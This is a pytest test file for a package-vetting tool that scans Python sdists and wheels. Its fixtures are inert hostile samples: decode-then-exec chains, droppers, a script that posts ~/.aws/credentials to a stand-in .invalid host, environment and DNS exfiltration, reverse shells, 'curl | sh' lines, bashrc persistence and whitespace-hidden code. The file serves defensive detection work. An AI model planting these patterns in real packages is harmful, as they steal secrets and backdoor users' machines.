"""The source analyzer on real (inert) sdists and wheels built by the tests.

Every payload here is inert: decoded strings are `print(1)`, hosts are 127.0.0.1 or
`.invalid`, and nothing in these tests runs the fixture code.
"""

from __future__ import annotations

import base64
import zlib
from pathlib import Path

import pytest

from builders import BENIGN_SETUP, make_sdist, make_wheel
from pkgvet.analyzer.python_code import PythonCodeAnalyzer
from pkgvet.model import Finding, Phase, Severity, Verdict
from pkgvet.package import load
from pkgvet.sources.local import local_artifact
from pkgvet.verdict import decide

PAYLOAD = base64.b64encode(b"print(1)").decode()


def findings_for(path: Path) -> list[Finding]:
    return list(PythonCodeAnalyzer().analyze(load(local_artifact(path))))


def sdist(tmp_path: Path, setup: str, files: dict[str, str] | None = None) -> Path:
    return make_sdist(tmp_path, "fixture", "1.0", {"setup.py": setup, **(files or {})})


def rules(findings: list[Finding]) -> set[str]:
    return {f.rule_id for f in findings}


# -- decode then exec ---------------------------------------------------------------------


def test_setup_py_base64_exec_is_malicious_with_line(tmp_path: Path) -> None:
    setup = f'import base64\nfrom setuptools import setup\nexec(base64.b64decode("{PAYLOAD}"))\nsetup(name="fixture")\n'
    found = findings_for(sdist(tmp_path, setup))
    hit = [f for f in found if f.rule_id == "PV201"]
    assert hit and hit[0].line == 3 and hit[0].phase is Phase.INSTALL
    assert hit[0].severity is Severity.CRITICAL
    assert "exec(base64.b64decode" in hit[0].snippet
    assert decide(found) is Verdict.MALICIOUS


def test_alias_and_indirection_resolve(tmp_path: Path) -> None:
    """`import base64 as b` and a variable in between must not hide the chain."""
    setup = (
        "import base64 as b, zlib as z\n"
        f"blob = z.decompress(b.b64decode('{base64.b64encode(zlib.compress(b'print(1)')).decode()}'))\n"
        "code = blob\n"
        "exec(code)\n"
    )
    found = findings_for(sdist(tmp_path, setup))
    assert "PV201" in rules(found)
    assert decide(found) is Verdict.MALICIOUS


def test_chr_join_and_reversal_obfuscation(tmp_path: Path) -> None:
    codes = ",".join(str(ord(c)) for c in "print(1)")
    setup = f"exec(''.join(map(chr, [{codes}])))\nexec(')1(tnirp'[::-1])\n"
    found = findings_for(sdist(tmp_path, setup))
    assert [f.line for f in found if f.rule_id == "PV201"] == [1, 2]


def test_cmdclass_install_hook_exec(tmp_path: Path) -> None:
    setup = (
        "from setuptools import setup\n"
        "from setuptools.command.install import install\n"
        "import base64\n"
        "class Hook(install):\n"
        "    def run(self):\n"
        f"        exec(base64.b64decode('{PAYLOAD}'))\n"
        "        install.run(self)\n"
        "setup(name='fixture', cmdclass={'install': Hook})\n"
    )
    found = findings_for(sdist(tmp_path, setup))
    assert {"PV201", "PV102"} <= rules(found)
    assert decide(found) is Verdict.MALICIOUS


def test_import_time_decode_exec_in_init(tmp_path: Path) -> None:
    init = f"import base64\nexec(base64.b64decode('{PAYLOAD}'))\n"
    wheel = make_wheel(tmp_path, "fixture", "1.0", {"fixture/__init__.py": init})
    found = findings_for(wheel)
    assert any(f.rule_id == "PV201" and f.phase is Phase.IMPORT for f in found)


def test_runtime_exec_of_version_file_is_benign(tmp_path: Path) -> None:
    """The most common legitimate setup.py idiom: exec the version file."""
    setup = (
        "from setuptools import setup\n"
        "ns = {}\n"
        "exec(open('fixture/_version.py').read(), ns)\n"
        "setup(name='fixture', version=ns['__version__'])\n"
    )
    assert decide(findings_for(sdist(tmp_path, setup))) is Verdict.BENIGN


def test_pickle_of_parameter_at_runtime_is_not_flagged(tmp_path: Path) -> None:
    module = (
        "import base64, pickle\n"
        "def load_state(token):\n"
        "    return pickle.loads(base64.b64decode(token))\n"
    )
    found = findings_for(
        sdist(
            tmp_path,
            BENIGN_SETUP.format(name="fixture", version="1.0"),
            {"fixture/state.py": module},
        )
    )
    assert decide(found) is Verdict.BENIGN


# -- droppers, command lines, exfiltration ----------------------------------------------------


def test_powershell_cradle_at_install(tmp_path: Path) -> None:
    setup = (
        "import subprocess\n"
        "subprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand ZQBjAGgAbwAgADEA')\n"
    )
    found = findings_for(sdist(tmp_path, setup))
    assert any(f.rule_id == "PV302" and f.severity is Severity.CRITICAL for f in found)


def test_download_write_chmod_run_at_import(tmp_path: Path) -> None:
    init = (
        "import os, urllib.request, subprocess\n"
        "def _fetch():\n"
        "    data = urllib.request.urlopen('http://127.0.0.1:9/x').read()\n"
        "    with open('/tmp/x', 'wb') as fh:\n"
        "        fh.write(data)\n"
        "    os.chmod('/tmp/x', 0o755)\n"
        "    subprocess.call(['/tmp/x'])\n"
        "_fetch()\n"
    )
    wheel = make_wheel(tmp_path, "fixture", "1.0", {"fixture/__init__.py": init})
    found = findings_for(wheel)
    assert any(f.rule_id == "PV301" and f.phase is Phase.IMPORT for f in found)
    assert decide(found) is Verdict.MALICIOUS


def test_same_dropper_only_at_runtime_is_not_malicious(tmp_path: Path) -> None:
    """A downloader a user calls (webdriver managers do this) is not a dropper by itself."""
    module = (
        "import os, urllib.request, subprocess\n"
        "def install_driver(url):\n"
        "    data = urllib.request.urlopen(url).read()\n"
        "    with open('driver', 'wb') as fh:\n"
        "        fh.write(data)\n"
        "    os.chmod('driver', 0o755)\n"
        "    subprocess.call(['./driver', '--version'])\n"
    )
    wheel = make_wheel(tmp_path, "fixture", "1.0", {"fixture/drivers.py": module})
    assert decide(findings_for(wheel)) is Verdict.BENIGN


def test_exec_of_downloaded_code(tmp_path: Path) -> None:
    module = (
        "import requests as r\ndef update():\n    exec(r.get('http://127.0.0.1:9/stage2').text)\n"
    )
    wheel = make_wheel(tmp_path, "fixture", "1.0", {"fixture/update.py": module})
    found = findings_for(wheel)
    assert any(f.rule_id == "PV202" and f.severity is Severity.CRITICAL for f in found)


def test_credentials_sent_at_install(tmp_path: Path) -> None:
    setup = (
        "import os, requests\n"
        "key = open(os.path.expanduser('~/.aws/credentials')).read()\n"
        "requests.post('https://exfil.pkgvet-test.invalid/', data=key)\n"
    )
    found = findings_for(sdist(tmp_path, setup))
    assert any(f.rule_id == "PV303" and f.severity is Severity.CRITICAL for f in found)


def test_environment_dump_sent_at_import(tmp_path: Path) -> None:
    init = "import os, json, urllib.request\nurllib.request.urlopen('http://127.0.0.1:9', json.dumps(dict(os.environ)).encode())\n"
    wheel = make_wheel(tmp_path, "fixture", "1.0", {"fixture/__init__.py": init})
    assert "PV303" in rules(findings_for(wheel))


def test_host_beacon_at_install(tmp_path: Path) -> None:
    setup = (
        "import socket, getpass, requests\n"
        "requests.get('https://probe.pkgvet-test.invalid', params={'h': socket.gethostname(), 'u': getpass.getuser()})\n"
    )
    found = findings_for(sdist(tmp_path, setup))
    assert any(f.rule_id == "PV304" and f.severity is Severity.CRITICAL for f in found)


def test_webhook_constant_and_runtime_send(tmp_path: Path) -> None:
    module = (
        "import requests\n"
        "HOOK = 'https://discord.com/api/webhooks/123456789012/abcdefghijklmnopqrstuvwxyz0123'\n"
        "def report(msg):\n"
        "    requests.post(HOOK, json={'content': msg})\n"
    )
    wheel = make_wheel(tmp_path, "fixture", "1.0", {"fixture/util.py": module})
    found = findings_for(wheel)
    assert any(f.rule_id == "PV305" and f.severity >= Severity.HIGH for f in found)
    assert decide(found) is not Verdict.BENIGN


def test_http_client_reading_netrc_is_benign(tmp_path: Path) -> None:
    """requests reads ~/.netrc and sends requests; that is what an HTTP client does."""
    module = (
        "import os, netrc, requests\n"
        "def auth_for(host):\n"
        "    path = os.path.expanduser('~/.netrc')\n"
        "    creds = netrc.netrc(path).authenticators(host)\n"
        "    return requests.get('https://' + host, auth=creds[::2])\n"
    )
    wheel = make_wheel(tmp_path, "fixture", "1.0", {"fixture/auth.py": module})
    assert decide(findings_for(wheel)) is Verdict.BENIGN


# -- persistence and obfuscation --------------------------------------------------------------


def test_persistence_in_bashrc_at_install(tmp_path: Path) -> None:
    setup = (
        "import os\n"
        "with open(os.path.expanduser('~/.bashrc'), 'a') as fh:\n"
        "    fh.write('python3 -c \"print(1)\"\\n')\n"
    )
    found = findings_for(sdist(tmp_path, setup))
    assert any(f.rule_id == "PV401" and f.phase is Phase.INSTALL for f in found)


def test_shell_completion_installer_at_runtime_is_benign(tmp_path: Path) -> None:
    module = (
        "import os\n"
        "def install_completion(script):\n"
        "    with open(os.path.expanduser('~/.bashrc'), 'a') as fh:\n"
        "        fh.write(script)\n"
    )
    wheel = make_wheel(tmp_path, "fixture", "1.0", {"fixture/completion.py": module})
    assert decide(findings_for(wheel)) is Verdict.BENIGN


def test_code_hidden_after_whitespace(tmp_path: Path) -> None:
    setup = "from setuptools import setup" + " " * 300 + "; import os\nsetup(name='x')\n"
    assert "PV207" in rules(findings_for(sdist(tmp_path, setup)))


def test_obfuscated_builtins_access_with_exec(tmp_path: Path) -> None:
    setup = (
        "import builtins\n"
        "IIlIlIlIlI = getattr(builtins, 'ex' + 'ec')\n"
        "lIlIlIIlIl = getattr(__builtins__, 'ev' + 'al')\n"
        "IIlIlIlIlI(''.join(chr(c) for c in [112, 114, 105, 110, 116, 40, 49, 41]))\n"
    )
    found = findings_for(sdist(tmp_path, setup))
    assert "PV204" in rules(found) or "PV201" in rules(found)
    assert decide(found) is not Verdict.BENIGN


# -- what is not code ------------------------------------------------------------------------


def test_tests_folder_is_demoted(tmp_path: Path) -> None:
    test_module = f"import base64\nexec(base64.b64decode('{PAYLOAD}'))\n"
    path = sdist(
        tmp_path,
        BENIGN_SETUP.format(name="fixture", version="1.0"),
        {"tests/test_decode.py": test_module},
    )
    found = findings_for(path)
    assert all(f.phase is Phase.RUNTIME and f.severity <= Severity.HIGH for f in found)
    assert decide(found) is Verdict.BENIGN


def test_python2_source_falls_back_to_text_scan(tmp_path: Path) -> None:
    setup = f"import base64\nprint 'installing'\nexec base64.b64decode('{PAYLOAD}')\nexec(base64.b64decode('{PAYLOAD}'))\n"
    found = findings_for(sdist(tmp_path, setup))
    assert "PV905" in rules(found)
    assert "PV201" in rules(found)


@pytest.mark.parametrize(
    "source",
    [
        "x = " + "(" * 5000 + "1" + ")" * 5000 + "\n",
        "x = " + "+".join(["1"] * 10000) + "\n",
    ],
    ids=["parens", "binop-chain"],
)
def test_pathological_nesting_is_an_evasion_not_a_crash(tmp_path: Path, source: str) -> None:
    found = findings_for(sdist(tmp_path, source))
    assert "PV903" in rules(found)
    assert decide(found) is not Verdict.BENIGN


def test_benign_setup_has_no_findings_above_info(tmp_path: Path) -> None:
    setup = (
        "import os, subprocess\n"
        "from setuptools import setup, Extension\n"
        "from setuptools.command.build_ext import build_ext\n"
        "class CMakeBuild(build_ext):\n"
        "    def run(self):\n"
        "        subprocess.check_call(['cmake', '..'], cwd=os.environ.get('BUILD_DIR', '.'))\n"
        "setup(name='fixture', cmdclass={'build_ext': CMakeBuild})\n"
    )
    found = findings_for(sdist(tmp_path, setup))
    assert all(f.severity <= Severity.LOW for f in found)
    assert decide(found) is Verdict.BENIGN


def test_dns_exfiltration_at_install(tmp_path: Path) -> None:
    setup = (
        "import socket, getpass, binascii\n"
        "socket.gethostbyname(binascii.hexlify(getpass.getuser().encode()).decode() + '.x.invalid')\n"
    )
    found = findings_for(sdist(tmp_path, setup))
    assert any(f.rule_id == "PV304" for f in found)


def test_local_ip_idiom_at_import_is_benign(tmp_path: Path) -> None:
    module = (
        "import socket\n"
        "def local_ip():\n"
        "    return socket.gethostbyname(socket.gethostname())\n"
        "IP = local_ip()\n"
    )
    wheel = make_wheel(tmp_path, "fixture", "1.0", {"fixture/__init__.py": module})
    assert decide(findings_for(wheel)) is Verdict.BENIGN


def test_embedded_payload_dropped_and_run_at_import(tmp_path: Path) -> None:
    blob = base64.b64encode(b"".join(bytes([i * 37 % 251]) for i in range(300))).decode()
    init = (
        "import base64, subprocess, tempfile, os\n"
        f"DATA = '{blob}'\n"
        "path = os.path.join(tempfile.gettempdir(), 'x.bin')\n"
        "open(path, 'wb').write(base64.b64decode(DATA))\n"
        "subprocess.Popen([path])\n"
    )
    wheel = make_wheel(tmp_path, "fixture", "1.0", {"fixture/__init__.py": init})
    found = findings_for(wheel)
    assert any(f.rule_id == "PV313" for f in found)
    assert decide(found) is Verdict.MALICIOUS


def test_dunder_import_system_with_download_command(tmp_path: Path) -> None:
    setup = "__import__('os').system('curl -s https://x.invalid/i.sh | sh')\n"
    found = findings_for(sdist(tmp_path, setup))
    assert any(f.rule_id == "PV302" and f.severity is Severity.CRITICAL for f in found)


def test_clipboard_access_at_import(tmp_path: Path) -> None:
    init = "import pyperclip\nif pyperclip.paste().startswith('bc1'):\n    pyperclip.copy('bc1inert')\n"
    wheel = make_wheel(tmp_path, "fixture", "1.0", {"fixture/__init__.py": init})
    assert decide(findings_for(wheel)) is Verdict.SUSPICIOUS


# -- reverse shells ------------------------------------------------------------------------

REVERSE_SHELL = """\
import os, socket, subprocess

def connect_back():
    s = socket.socket()
    s.connect(("127.0.0.1", 4444))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    subprocess.call(["/bin/sh", "-i"])
"""

PTY_SHELL = """\
import os, pty, socket

def connect_back():
    s = socket.create_connection(("127.0.0.1", 4444))
    os.dup2(s.fileno(), 0)
    pty.spawn("/bin/bash")
"""

DAEMON = """\
import os, socket

def serve():
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    with open(os.devnull) as devnull:
        os.dup2(devnull.fileno(), 0)
    listener.listen()
"""


@pytest.mark.parametrize("source", [REVERSE_SHELL, PTY_SHELL], ids=["sh", "pty"])
def test_socket_wired_to_a_shell_is_a_reverse_shell(tmp_path: Path, source: str) -> None:
    wheel = make_wheel(tmp_path, "fixture", "1.0", {"fixture/__init__.py": "", "fixture/r.py": source})
    assert "PV311" in rules(findings_for(wheel))


def test_daemon_sending_stdio_to_devnull_is_not_a_reverse_shell(tmp_path: Path) -> None:
    """pyspark's worker daemon: a socket and os.dup2, but no shell anywhere."""
    wheel = make_wheel(tmp_path, "fixture", "1.0", {"fixture/__init__.py": "", "fixture/d.py": DAEMON})
    assert "PV311" not in rules(findings_for(wheel))


# -- context: messages for people, build downloads, python -m ----------------------------

INSTRUCTIONS = """\
import shutil, subprocess

def deploy():
    if not shutil.which("beam"):
        raise ImportError(
            "Please install it with `curl "
            "https://example.invalid/get-beam.sh -sSfL | sh`."
        )
    subprocess.run(["beam", "deploy"])
"""

HIDDEN_IN_PRINT = """\
import os

def deploy():
    print(os.system("curl -s https://example.invalid/a.sh | sh"))
"""


def test_a_command_in_an_error_message_is_not_a_command(tmp_path: Path) -> None:
    wheel = make_wheel(tmp_path, "fixture", "1.0", {"fixture/__init__.py": "", "fixture/b.py": INSTRUCTIONS})
    assert "PV302" not in rules(findings_for(wheel))


def test_a_command_run_inside_a_print_still_counts(tmp_path: Path) -> None:
    wheel = make_wheel(tmp_path, "fixture", "1.0", {"fixture/__init__.py": "", "fixture/p.py": HIDDEN_IN_PRINT})
    assert "PV302" in rules(findings_for(wheel))


BUILD_DOWNLOAD = """\
import os, subprocess, urllib.request
from setuptools import setup

def fetch_and_build(url):
    urllib.request.urlretrieve(url, "mupdf.tar.gz-")
    os.rename("mupdf.tar.gz-", "mupdf.tar.gz")
    subprocess.run(["make", "-C", "mupdf"])

setup(name="fixture")
"""

DROPPER = """\
import os, subprocess, urllib.request
from setuptools import setup

def update():
    path = os.path.join(os.environ.get("TEMP", "/tmp"), "svchost-update.exe")
    urllib.request.urlretrieve("https://example.invalid/u", path)
    subprocess.Popen([path])

update()
setup(name="fixture")
"""


def test_a_build_step_that_downloads_sources_is_not_a_dropper(tmp_path: Path) -> None:
    found = [f for f in findings_for(sdist(tmp_path, BUILD_DOWNLOAD)) if f.rule_id == "PV301"]
    assert found and all(f.severity is Severity.MEDIUM for f in found)


def test_downloading_a_program_and_running_it_at_install_is_a_dropper(tmp_path: Path) -> None:
    found = findings_for(sdist(tmp_path, DROPPER))
    assert any(f.rule_id == "PV301" and f.severity is Severity.CRITICAL for f in found)
    assert decide(found) is Verdict.MALICIOUS


def test_main_module_runs_only_for_python_dash_m(tmp_path: Path) -> None:
    spy = "import pyperclip, socket\nsocket.gethostname()\npyperclip.paste()\n"
    wheel = make_wheel(tmp_path, "fixture", "1.0", {"fixture/__init__.py": "", "fixture/__main__.py": spy})
    assert all(f.phase is not Phase.IMPORT for f in findings_for(wheel) if f.path and "__main__" in f.path)


SAFE_EVAL = """\
import builtins

class SafeEnv:
    def __init__(self):
        self.safe = {n: getattr(builtins, n) for n in ("abs", "len", "min")}
        self.errors = {n: getattr(builtins, n) for n in ("ValueError", "TypeError")}

    def run(self, expr):
        return eval(compile(expr, "<expr>", "eval"), {"__builtins__": self.safe})

env = SafeEnv()
"""

HIDDEN_EXEC = """\
import builtins

def _go(p):
    f = getattr(builtins, ''.join(chr(c) for c in (101, 120, 101, 99)))
    g = getattr(builtins, ''.join(chr(c) for c in (101, 118, 97, 108)))
    f(p)

_go("print(1)")
"""


def test_a_sandboxed_evaluator_is_not_obfuscation(tmp_path: Path) -> None:
    wheel = make_wheel(tmp_path, "fixture", "1.0", {"fixture/__init__.py": SAFE_EVAL})
    assert all(f.severity < Severity.HIGH for f in findings_for(wheel) if f.rule_id == "PV204")


def test_builtins_lookup_with_chr_tricks_at_import_is_obfuscation(tmp_path: Path) -> None:
    wheel = make_wheel(tmp_path, "fixture", "1.0", {"fixture/__init__.py": HIDDEN_EXEC})
    assert any(f.rule_id == "PV204" and f.severity >= Severity.HIGH for f in findings_for(wheel))


def test_naming_an_obfuscator_is_not_using_one(tmp_path: Path) -> None:
    detector = '_RUNTIME_MODULE_PREFIXES = ("pytransform", "pyarmor_runtime")\n'
    stub = "from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY0')\n"
    clean = make_wheel(tmp_path, "clean", "1.0", {"clean/__init__.py": "", "clean/obf.py": detector})
    armored = make_wheel(tmp_path, "armored", "1.0", {"armored/__init__.py": stub})
    assert "PV206" not in rules(findings_for(clean))
    assert "PV206" in rules(findings_for(armored))


def test_blanks_inside_a_docstring_hide_nothing(tmp_path: Path) -> None:
    doc = ("import socket, subprocess\n"  # enough for the full pass
           'def get():\n    """Args:\n        retry: what errors, if any' + " " * 200 + 'x\n    """\n')
    hidden = "x = 1" + " " * 200 + "; __import__('os').system('id')\n"
    clean = make_wheel(tmp_path, "clean", "1.0", {"clean/__init__.py": doc})
    sneaky = make_wheel(tmp_path, "sneaky", "1.0", {"sneaky/__init__.py": doc + hidden})
    assert "PV207" not in rules(findings_for(clean))
    assert "PV207" in rules(findings_for(sneaky))


def test_python_3_12_type_syntax_gets_the_precise_front_end(tmp_path: Path) -> None:
    from pkgvet.analysis.parse import parse_guard as _parse_guard

    source = "type Order = Literal['>', '<']\nclass Box[T](Base):\n    def get[U](self) -> T: ...\n"
    assert _parse_guard(source)[0] == "ok"
